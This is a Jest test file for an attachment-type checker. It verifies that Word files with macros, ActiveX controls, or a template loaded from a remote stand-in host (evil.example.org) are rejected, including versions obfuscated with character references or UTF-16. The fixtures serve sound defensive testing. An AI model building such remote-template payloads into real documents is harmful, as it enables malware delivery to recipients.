import { afterAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { typeOfFile } from '../../src/features/attachments/attachment-type.js';
import { zipped, type ZipEntry } from '../imports/zip-file.js';

const folder = mkdtempSync(join(tmpdir(), 'school-directory-office-'));
afterAll(() => rmSync(folder, { recursive: true }));

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const relations = (inner: string): string => `<Relationships>${inner}</Relationships>`;
const elsewhere = (type: string, mode = 'External'): string =>
  `<Relationship Id="rId1" Type="${type}" Target="https://evil.example.org/t.dotm" TargetMode="${mode}"/>`;

/** A document, and whatever else is in the file. */
function typeWith(further: ZipEntry[], types = ''): Promise<string | null> {
  const path = join(folder, 'file.docx');
  const kind = `<Override PartName="/word/document.xml" ContentType="${DOCX}.main+xml"/>`;
  writeFileSync(
    path,
    zipped([
      { name: '[Content_Types].xml', content: `<Types>${kind}${types}</Types>` },
      { name: 'word/document.xml', content: '<w:document/>' },
      ...further,
    ]),
  );
  return typeOfFile(path);
}

const SETTINGS = 'word/_rels/settings.xml.rels';

describe('An Office file', () => {
  it.each<[string, ZipEntry[], string?]>([
    ['has macros', [{ name: 'word/vbaProject.bin', content: 'x' }]],
    ['has macros in another spelling', [{ name: 'word/VBAPROJECT.BIN', content: 'x' }]],
    ['has controls', [{ name: 'word/activeX/activeX1.bin', content: 'x' }]],
    [
      'says that it has macros',
      [],
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    ],
    [
      'is one with macros by its type',
      [],
      '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    ],
    ['loads a template from elsewhere', [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE)) }]],
    [
      'loads one and hides it in references',
      [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE.replace('T', '&#84;'), 'Ex&#x74;ernal')) }],
    ],
    [
      'loads one in another encoding',
      [{ name: SETTINGS, content: Buffer.from(relations(elsewhere(TEMPLATE)), 'utf16le') }],
    ],
    ['describes more than a file can have', [{ name: SETTINGS, content: 'x'.repeat(1_000_001) }]],
  ])('that %s is none of the types', async (_, further, types = '') => {
    expect(await typeWith(further, types)).toBeNull();
  });

  it.each<[string, ZipEntry[]]>([
    ['has nothing more', []],
    [
      'has a link',
      [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE.replace('attachedTemplate', 'hyperlink'))) }],
    ],
    ['has its template in itself', [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE, 'Internal')) }]],
  ])('that %s is a document', async (_, further) => {
    expect(await typeWith(further)).toBe(DOCX);
  });
});
